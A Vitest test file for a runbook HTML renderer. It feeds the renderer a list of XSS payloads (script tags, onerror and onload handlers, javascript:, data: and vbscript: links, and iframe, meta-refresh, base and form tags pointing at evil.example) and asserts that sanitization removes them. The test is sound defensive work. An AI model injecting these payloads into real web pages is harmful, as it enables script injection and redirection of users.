import { describe, expect, it } from "vitest";
import { renderRunbookPage } from "../../../renderers/html/index.js";
import { md, parse } from "../../helpers/parse.js";
import { all, dom } from "./helpers.js";

/** Raw HTML an attacker (or a careless paste) could put in a runbook's prose. */
const PAYLOADS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  '<img src=x onerror="alert(2)">',
  '<a href="javascript:alert(3)">js link</a>',
  '<a href="jav&#x09;ascript:alert(4)">entity js link</a>',
  '<a href="&#106;avascript:alert(5)">encoded js link</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg2KTwvc2NyaXB0Pg==">data link</a>',
  '<a href="vbscript:msgbox(7)">vb link</a>',
  '<svg onload="alert(8)"><circle r="4"/></svg>',
  '<svg><a xlink:href="javascript:alert(9)"><text>svg link</text></a></svg>',
  '<math><mtext><img src=x onerror="alert(10)"></mtext></math>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>alert(11)</script>"></iframe>',
  "<style>body { display: none }</style>",
  '<div style="position:fixed;inset:0" onclick="alert(12)">overlay</div>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><input name="q" onfocus="alert(13)" autofocus><button formaction="javascript:alert(14)">go</button></form>',
  '<base href="https://evil.example/">',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<video src=x onerror="alert(15)"><source src=x></video>',
  '<details open ontoggle="alert(16)"><summary>toggle</summary>body</details>',
  "<b><i>mis-nested</b></i> <p><div>unclosed",
  "<select><option>x</option><textarea><script>alert(17)</script></textarea>",
  '<noscript><p title="</noscript><img src=x onerror=alert(18)>"></noscript>',
  "<plaintext>everything after",
  "<template><script>alert(19)</script></template>",
  '<a href="https://ok.example/" onmouseover="alert(20)" id="danger" name="danger">ok link</a>',
  '<div id="last">id of a step</div>',
  "<table><tr><td>unclosed table",
  "<!-- <script>alert(21)</script> -->",
  "<![CDATA[<script>alert(22)</script>]]>",
];

const URL_ATTRIBUTES = [
  "href",
  "src",
  "action",
  "formaction",
  "xlink:href",
  "data",
  "srcdoc",
  "poster",
];

/** One page: each payload inline in prose, as an HTML block, and inside a manual step, each followed by a step with a code block. */
function hostilePage(): Document {
  const lines = ["# Hostile", ""];
  PAYLOADS.forEach((payload, i) => {
    lines.push(
      `## Step ${i}`,
      "",
      `Inline ${payload} after.`,
      "",
      payload,
      "",
      ":::manual",
      `Manual ${payload} after.`,
      ":::",
      "",
      "```sh",
      `echo step-${i}`,
      "```",
      "",
    );
  });
  lines.push("## Last", "", "```sh", "echo last", "```");
  const { runbook, diagnostics } = parse(md(...lines));
  return dom(renderRunbookPage({ runbook, diagnostics }));
}

describe("the author's raw HTML on hostile input (parsed output, not the string)", () => {
  const d = hostilePage();
  const prose = all(d, "main section.step, main section.context");

  it("leaves no element that runs, loads, submits or redirects", () => {
    for (const section of prose)
      expect(
        all(
          section,
          "script, iframe, object, embed, form, button, base, meta, link, style, svg, math, video, audio, source, img, template, noscript, textarea, select",
        ).map((e) => e.outerHTML),
      ).toEqual([]);
  });

  it("leaves no event handler, style, or URL with a scheme other than http(s)/mailto", () => {
    const bad: string[] = [];
    for (const section of prose)
      for (const element of all(section, "*"))
        for (const attribute of Array.from(element.attributes)) {
          const name = attribute.name.toLowerCase();
          if (name.startsWith("on") || name === "style" || name === "srcdoc")
            bad.push(`${element.tagName} ${name}`);
          if (!URL_ATTRIBUTES.includes(name)) continue;
          const scheme = /^\s*([a-z][a-z0-9+.-]*):/i.exec(
            attribute.value.replace(/[\u0000-\u0020]/g, ""),
          );
          if (
            scheme &&
            !["http", "https", "mailto"].includes(scheme[1]!.toLowerCase())
          )
            bad.push(`${element.tagName} ${name}=${attribute.value}`);
        }
    expect(bad).toEqual([]);
  });

  it("keeps every step and its code visible, whatever the HTML before it did", () => {
    for (let i = 0; i < PAYLOADS.length; i++) {
      const step = d.getElementById(`step-${i}`);
      expect(step?.tagName, `step ${i}`).toBe("SECTION");
      expect(step?.querySelector("figure.action code")?.textContent).toContain(
        `echo step-${i}`,
      );
      expect(step?.querySelector(".callout--manual")?.textContent).toContain(
        "Manual",
      );
    }
    expect(d.getElementById("last")?.tagName).toBe("SECTION");
    expect(all(d, "figure.action")).toHaveLength(PAYLOADS.length + 1);
  });

  it("prefixes an author's ids as GitHub does, so no step anchor is hijacked", () => {
    expect(all(d, "#danger, [name=danger]")).toHaveLength(0);
    expect(all(d, "#user-content-danger").length).toBeGreaterThan(0);
    expect(all(d, '[id="last"]')).toHaveLength(1);
  });

  it("shows script and style source as text, as GitHub's tag filter does", () => {
    const text = d.getElementById("step-0")?.textContent ?? "";
    expect(text).toContain("Inline <script>alert(1)</script> after.");
  });
});

describe("placeholders in prose", () => {
  it("keeps <your-host> and other non-HTML tags visible as written (GitHub would drop them)", () => {
    const { runbook, diagnostics } = parse(
      md(
        "# Move",
        "",
        "Connect to <your-host> as <db-user>, then open </your-host>.",
        "",
        "<new_primary_ip>",
        "",
        "## Go <target>",
        "",
        ":::manual",
        "Log in to <bastion-host> by hand.",
        ":::",
      ),
    );
    const d = dom(renderRunbookPage({ runbook, diagnostics }));
    const main = d.querySelector("main")?.textContent ?? "";
    expect(main).toContain(
      "Connect to <your-host> as <db-user>, then open </your-host>.",
    );
    expect(main).toContain("<new_primary_ip>");
    expect(d.querySelector("section.step h2")?.textContent).toContain(
      "Go <target>",
    );
    expect(d.querySelector(".callout--manual")?.textContent).toContain(
      "Log in to <bastion-host> by hand.",
    );
    expect(all(d, "your-host, db-user, target, bastion-host")).toHaveLength(0);
  });

  it("keeps footnotes linked both ways", () => {
    const { runbook, diagnostics } = parse(
      md(
        "# Notes",
        "",
        "See the note.[^1]",
        "",
        "[^1]: The <kbd>note</kbd>, with <your-host>.",
      ),
    );
    const d = dom(renderRunbookPage({ runbook, diagnostics }));
    const ref = d.querySelector("a[data-footnote-ref]");
    const target = ref?.getAttribute("href")?.slice(1) ?? "";
    const note = d.getElementById(target);
    expect(note?.tagName).toBe("LI");
    expect(note?.querySelector("kbd")?.textContent).toBe("note");
    expect(note?.textContent).toContain("<your-host>");
    const back = note
      ?.querySelector("a[data-footnote-backref]")
      ?.getAttribute("href")
      ?.slice(1);
    expect(d.getElementById(back ?? "")).toBe(ref);
  });
});
